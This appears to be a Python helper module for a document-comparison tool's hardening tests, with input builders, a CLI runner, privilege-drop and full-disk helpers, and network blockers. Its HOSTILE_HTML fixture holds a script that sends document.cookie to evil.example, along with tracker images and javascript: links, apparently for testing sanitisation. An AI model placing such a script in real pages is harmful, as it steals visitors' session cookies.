"""Shared pieces of the hardening suite: how a case reports its outcome, input builders,
a model-free encoder, the command line run in-process, and honest ways to take away
permissions or disk space.

A case ends in one of two ways, and says which it expected:

* ``error``: a :class:`~factdiff.core.errors.FactdiffError` (or a CLI exit code 1/2 with
  a one-line ``factdiff: ...`` message) whose text names the problem;
* ``result``: a value the case then checks is right.

Anything else is a *crash*: an exception that is not a FactdiffError escaping the API, or
a traceback out of the command line. A case that guards a reviewer's file (a session or
an export that existed before) also reports whether that file survived: *data lost*.
"""

from __future__ import annotations

import contextlib
import errno
import hashlib
import io
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import traceback
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from factdiff.core.errors import FactdiffError

ROOT = Path(__file__).resolve().parents[2]
SEEDS = ROOT / "seeds"

# -- outcomes --------------------------------------------------------------------------------


@dataclass
class Outcome:
    """What a case ended with: ``kind`` is "error" or "result"; ``detail`` is the message
    or a short description of the result; ``guarded`` counts the reviewer's files the case
    checked, ``lost`` those that did not survive."""

    kind: str
    detail: str
    guarded: int = 0
    lost: list[str] = field(default_factory=list)
    seconds: float = 0.0


class Crash(Exception):  # noqa: N818 (it is what the table calls it)
    """The code under test raised something that is not a clear error."""

    def __init__(self, exc: BaseException) -> None:
        tb = "".join(traceback.format_exception(type(exc), exc, exc.__traceback__))
        super().__init__(f"{type(exc).__name__}: {exc}\n{tb}")
        self.exc = exc


def one_line(message: str) -> None:
    assert message and "\n" not in message, f"not one line: {message!r}"
    assert "Traceback" not in message, message


def expect_error(
    call: Callable[[], object], fragment: str, kind: type[Exception] = FactdiffError
) -> Outcome:
    """``call()`` must raise ``kind`` with ``fragment`` in a one-line message."""
    try:
        value = call()
    except kind as err:
        message = str(err)
        one_line(message)
        assert fragment in message, f"{fragment!r} not in {message!r}"
        return Outcome("error", message)
    except FactdiffError as err:
        raise AssertionError(f"expected {kind.__name__}, got {type(err).__name__}: {err}") from err
    except Exception as err:
        raise Crash(err) from err
    raise AssertionError(f"expected an error ({fragment!r}), got a result: {value!r:.200}")


def expect_result(call: Callable[[], Any]) -> Any:
    """``call()``'s value; a clear error here is a wrong outcome, anything else a crash."""
    try:
        return call()
    except FactdiffError as err:
        raise AssertionError(f"expected a result, got an error: {err}") from err
    except Exception as err:
        raise Crash(err) from err


class Guard:
    """Remembers files a reviewer would lose; :meth:`check` says whether each is intact
    (byte for byte, or one of the versions ``allowed``)."""

    def __init__(self, *paths: Path) -> None:
        self.before = {Path(p): Path(p).read_bytes() for p in paths}

    def check(self, outcome: Outcome, *allowed: bytes) -> Outcome:
        for path, data in self.before.items():
            outcome.guarded += 1
            now = path.read_bytes() if path.is_file() else None
            if now != data and now not in allowed:
                outcome.lost.append(str(path))
        return outcome


def temp_leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


# -- input builders ----------------------------------------------------------------------------


def write(path: Path, data: bytes | str) -> Path:
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


ARTICLE = (
    "The city council approved the new bridge on Monday by a vote of 7 to 2.\n"
    "Construction will cost 12 million dollars and start in May, the mayor said.\n"
    "Opponents said the money should go to schools instead."
)
OTHER = (
    "The council voted 7 to 2 on Monday to build the bridge.\n"
    "Work starts in May and will cost 15 million dollars, according to the mayor.\n"
    "Traffic will be diverted for a year."
)


def scanned_pdf() -> bytes:
    """A page with an image-like drawing and no text layer, like a scan."""
    import pypdf
    from pypdf.generic import DecodedStreamObject, NameObject

    writer = pypdf.PdfWriter()
    page = writer.add_blank_page(width=612, height=792)
    drawing = DecodedStreamObject()
    drawing.set_data(b"0.2 g 72 600 468 120 re f 0.5 g 72 400 300 150 re f")
    page[NameObject("/Contents")] = writer._add_object(drawing)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def make_docx(paragraphs: Sequence[str]) -> bytes:
    import docx

    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


def docx_with(data: bytes, replace: Callable[[str, bytes], bytes | Iterator[bytes]]) -> bytes:
    """``data`` (a DOCX) with each member passed through ``replace(name, content)``, which
    may return the new bytes or an iterator of chunks (streamed: for large members)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            new = replace(info.filename, src.read(info.filename))
            if isinstance(new, bytes):
                zf.writestr(info.filename, new)
            else:
                with zf.open(info.filename, "w", force_zip64=True) as fh:
                    for chunk in new:
                        fh.write(chunk)
    return out.getvalue()


def zip_of(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in files.items():
            zf.writestr(name, content)
    return out.getvalue()


def png_bytes() -> bytes:
    """A real 4x4 PNG (NUL bytes and all)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")
        )

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 4 for _ in range(4))
    header = (4).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00"
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


HOSTILE_HTML = """<!DOCTYPE html>
<html><head><meta charset="utf-8">
<title>Bridge approved &lt;b&gt;today&lt;/b&gt; | Example News</title>
<script src="https://tracker.example/t.js"></script>
<script>document.write('SCRIPTTEXT'); fetch('https://evil.example/s?c=' + document.cookie);</script>
<link rel="stylesheet" href="https://cdn.example/site.css">
<style>body { background: url(https://evil.example/bg.png); } /* STYLETEXT */</style>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
</head><body onload="alert('ONLOADTEXT')">
<img src="https://tracker.example/pixel.gif?id=42" width="1" height="1" alt="">
<iframe src="https://ads.example/frame.html">IFRAMETEXT</iframe>
<article>
<h1>Bridge approved</h1>
<p>The city council approved the new bridge on Monday by a vote of 7 to 2.</p>
<p onclick="alert('CLICKTEXT')">Construction will cost 12 million dollars, the mayor said,
and the plans mention &lt;script&gt;alert("x")&lt;/script&gt; only as text &amp; nothing more.</p>
<p>Critics wrote <b>bold</b> claims <img src="http://evil.example/inline.png" alt="">
and <a href="javascript:alert('LINKTEXT')">a link</a> about the cost.</p>
<object data="https://evil.example/x.swf">OBJECTTEXT</object>
<noscript><img src="https://tracker.example/noscript.gif">NOSCRIPTTEXT</noscript>
</article>
</body></html>
"""


# -- a model-free encoder ------------------------------------------------------------------------


class HashEncoder:
    """Bag-of-words vectors (hashed, L2-normalised): stands in for the model, so the
    command line's ``compare`` runs in tests without it. Same interface as ``Encoder``."""

    name = "hash-bow"
    DIM = 128

    def __init__(self) -> None:
        self.calls = 0

    def parse_many(self, texts, *, progress=None, cancel=None):  # type: ignore[no-untyped-def]
        """The pattern fallback: GUI tests need no spaCy model (the real app parses in the
        encoder's process)."""
        from factdiff.core.nlp import fallback_parse

        return [fallback_parse(t) for t in texts]

    def encode(
        self, texts: Sequence[str], *, progress: Any = None, cancel: Any = None
    ) -> np.ndarray:
        from factdiff.core.errors import Cancelled

        out = np.zeros((len(texts), self.DIM), dtype=np.float32)
        for i, text in enumerate(texts):
            if cancel is not None and i % 8 == 0 and cancel():
                raise Cancelled()
            for word in re.findall(r"\w+", text.lower()):
                h = int.from_bytes(hashlib.blake2b(word.encode(), digest_size=4).digest(), "big")
                out[i, h % self.DIM] += 1.0
            out[i, -1] += 0.01  # never all zeros
            if progress is not None:
                progress(i + 1, len(texts), "Encoding sentences")
        self.calls += 1
        return out / np.linalg.norm(out, axis=1, keepdims=True)


@contextlib.contextmanager
def fake_model(mp: pytest.MonkeyPatch) -> Iterator[HashEncoder]:
    """Make ``compare()``'s default encoder the :class:`HashEncoder`."""
    import factdiff.core.embed as embed

    enc = HashEncoder()
    mp.setattr(embed, "default_encoder", lambda: enc)
    yield enc


def unit_rows(n: int, dim: int = 16, seed: int = 0) -> np.ndarray:
    rng = np.random.default_rng(seed)
    m = rng.normal(size=(n, dim)).astype(np.float32)
    return m / np.linalg.norm(m, axis=1, keepdims=True)


# -- the command line, in-process ----------------------------------------------------------------


@dataclass
class CliRun:
    code: int
    out: str
    err: str


def run_cli(args: Sequence[str], *, stdin: bytes = b"") -> CliRun:
    """``factdiff ARGS`` in this process; a traceback out of ``main`` is a :class:`Crash`."""
    from factdiff.gui.cli import main

    out, err = io.StringIO(), io.StringIO()
    fake_in = io.TextIOWrapper(io.BytesIO(stdin), encoding="utf-8")
    old_in = sys.stdin
    sys.stdin = fake_in
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = main(list(args))
    except SystemExit as exc:  # argparse: usage errors exit 2 with a usage line
        code = exc.code if isinstance(exc.code, int) else 2
    except Exception as exc:
        raise Crash(exc) from exc
    finally:
        sys.stdin = old_in
    return CliRun(code, out.getvalue(), err.getvalue())


def expect_cli_error(
    args: Sequence[str], code: int, fragment: str, *, stdin: bytes = b""
) -> Outcome:
    """The command fails with exit ``code`` and one line ``factdiff: ...`` naming the problem."""
    run = run_cli(args, stdin=stdin)
    assert run.code == code, (run.code, run.err, run.out)
    message = run.err.strip()
    one_line(message)
    assert message.startswith("factdiff: "), message
    assert fragment in message, f"{fragment!r} not in {message!r}"
    return Outcome("error", message)


# -- taking away permissions and disk space, honestly ----------------------------------------------

NOBODY = 65534


def can_drop_to_nobody() -> bool:
    return hasattr(os, "geteuid") and os.geteuid() == 0 and sys.platform.startswith("linux")


@contextlib.contextmanager
def shared_tempdir() -> Iterator[Path]:
    """A folder every user can enter (pytest's tmp_path is private to root)."""
    folder = Path(tempfile.mkdtemp(prefix="factdiff-hardening-"))
    folder.chmod(0o755)
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


_DROP = """
import os
import factdiff.core.atomic, factdiff.core.loaders, factdiff.core.session  # before the drop
for name in ("utf-8-sig", "utf-16", "utf-32", "cp1252", "latin-1", "ascii", "idna"):
    "".encode(name)  # codecs load lazily from the standard library, which may be root's
os.setgroups([])
os.setgid({uid})
os.setuid({uid})
assert os.geteuid() == {uid}
"""


def run_python_as_nobody(code: str, *args: str) -> subprocess.CompletedProcess[str]:
    """Run ``code`` in a fresh Python that drops to user ``nobody`` once factdiff is
    imported (the interpreter itself may live where nobody cannot read): real permission
    checks even when the tests run as root, where chmod alone proves nothing."""
    env = dict(os.environ, PYTHONPATH=os.pathsep.join(p for p in sys.path if p))
    script = _DROP.format(uid=NOBODY) + textwrap.dedent(code)
    return subprocess.run(
        [sys.executable, "-c", script, *args],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
        cwd="/",
    )


def tmpfs_available() -> bool:
    """True when a private mount namespace with a tiny tmpfs can be made (root, Linux,
    unshare(1) and the capability to mount)."""
    if not (can_drop_to_nobody() and shutil.which("unshare")):
        return False
    probe = subprocess.run(
        [
            "unshare",
            "--mount",
            "--propagation",
            "private",
            "sh",
            "-c",
            "d=$(mktemp -d) && mount -t tmpfs -o size=64k tmpfs $d && umount $d && rmdir $d",
        ],
        capture_output=True,
        timeout=30,
    )
    return probe.returncode == 0


def run_python_on_full_disk(code: str, size_kb: int = 256) -> subprocess.CompletedProcess[str]:
    """Run ``code`` with ``$FULL`` naming a tmpfs of ``size_kb`` in a private mount namespace
    (gone when the process ends): writes there really fail with ENOSPC."""
    script = (
        f'FULL=$(mktemp -d) && mount -t tmpfs -o size={size_kb}k tmpfs "$FULL" && export FULL && '
        f'"{sys.executable}" -c "$0"; rc=$?; umount "$FULL"; rmdir "$FULL"; exit $rc'
    )
    env = dict(os.environ, PYTHONPATH=os.pathsep.join(p for p in sys.path if p))
    return subprocess.run(
        [
            "unshare",
            "--mount",
            "--propagation",
            "private",
            "sh",
            "-c",
            script,
            textwrap.dedent(code),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
    )


def enospc(*_args: object, **_kw: object) -> None:
    raise OSError(errno.ENOSPC, "No space left on device")


def eacces(*_args: object, **_kw: object) -> None:
    raise PermissionError(errno.EACCES, "Permission denied")


# -- network --------------------------------------------------------------------------------------


class NetworkUsed(AssertionError):
    pass


@contextlib.contextmanager
def no_network(mp: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Every way Python code reaches another machine (a name lookup, a connection, a
    datagram) raises :class:`NetworkUsed` and is recorded. Making a socket is allowed:
    urllib3 probes for IPv6 on import by binding one to ::1, which sends nothing."""
    attempts: list[str] = []

    def refuse(what: str) -> Callable[..., Any]:
        def _refuse(*args: object, **kw: object) -> Any:
            where = args[1:2] if what.startswith("socket.") else args[:2]
            attempts.append(f"{what}{where!r}")
            raise NetworkUsed(f"network use: {what}{where!r}")

        return _refuse

    for name in ("connect", "connect_ex", "sendto", "sendmsg"):
        mp.setattr(socket.socket, name, refuse(f"socket.{name}"))
    for name in ("create_connection", "getaddrinfo", "gethostbyname", "gethostbyname_ex"):
        mp.setattr(socket, name, refuse(name))
    yield attempts


@contextlib.contextmanager
def silent_server() -> Iterator[str]:
    """A URL whose server accepts the connection (the kernel's backlog does) but never
    answers: a fetch can only time out. No thread to clean up."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen(4)
        yield f"http://127.0.0.1:{sock.getsockname()[1]}/article"
